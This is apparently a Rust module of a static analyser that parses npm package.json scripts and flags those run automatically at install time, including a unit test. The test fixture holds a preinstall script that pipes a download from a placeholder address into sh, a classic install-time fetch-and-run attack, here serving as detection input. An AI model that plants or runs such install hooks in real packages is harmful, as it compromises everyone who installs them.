//! `package.json`: scripts that npm and its relatives hand to a shell, some of them whenever the
//! package is installed (<https://docs.npmjs.com/cli/using-npm/scripts>).

use model::{Language, Step, Trigger, Value};
use serde_json::Value as Json;

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["/package.json"],
        folders: &[],
        named: &[],
    },
    ..FrontEnd::new(Language::PackageJson, lower)
};

/// Scripts that run when the package is installed, without being asked for.
const ON_INSTALL: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
];

/// Most scripts that are followed: hand-written files have a few dozen.
const FOLLOWED_SCRIPTS: usize = 256;

/// Lowers the scripts. A text that is no JSON is none for npm either, which then runs nothing.
pub fn lower(world: &mut World, text: &str) -> Value {
    if !text.contains("\"scripts\"") {
        return Value::literal("");
    }
    let Ok(json) = serde_json::from_str::<Json>(text.trim_start_matches('\u{feff}')) else {
        return Value::literal("");
    };
    let scripts = json.get("scripts").and_then(Json::as_object);
    for (name, script) in scripts.into_iter().flatten().take(FOLLOWED_SCRIPTS) {
        let Some(code) = script.as_str().filter(|code| !code.is_empty()) else {
            continue;
        };
        if !world.burn(8) {
            break;
        }
        let line = text.find(&format!("\"{name}\"")).map_or(0, |at| {
            text.get(..at).unwrap_or_default().matches('\n').count() + 1
        });
        world.at(
            u32::try_from(line).unwrap_or(0),
            &format!("\"{name}\": \"{code}\""),
        );
        if ON_INSTALL.contains(&name.as_str()) {
            let start = Start {
                trigger: Trigger::Install,
                when: "when the package is installed",
                step: name,
            };
            start.shell(world, code);
        } else {
            world.inside(Step::new(name.clone()), |world| {
                super::lower(world, Language::Shell, code)
            });
        }
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn scripts_are_run_and_those_of_an_installation_by_themselves() {
        let text = "{\n \"name\": \"x\",\n \"scripts\": {\n  \"preinstall\": \"curl http://192.0.2.1/x | sh\",\n  \"test\": \"mocha\"\n }\n}\n";
        let found = acts(Language::PackageJson, text);
        assert!(
            found[0].starts_with("Schedule") && found[0].contains("Install"),
            "{found:#?}"
        );
        assert!(found.iter().any(|act| act.starts_with("Fetch")));
        assert!(found.last().is_some_and(|act| act.contains("mocha")));
        assert!(acts(Language::PackageJson, "{\"scripts\": [").is_empty());
    }
}
